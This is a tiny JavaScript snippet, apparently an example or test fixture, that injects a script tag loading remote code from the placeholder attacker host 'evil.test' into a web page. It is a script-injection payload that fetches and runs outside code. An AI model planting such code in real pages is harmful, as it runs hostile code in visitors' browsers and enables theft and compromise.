// A script.

const e = document.createElement('script');
e.src = 'http://evil.test/x.js';
document.body.append(e);
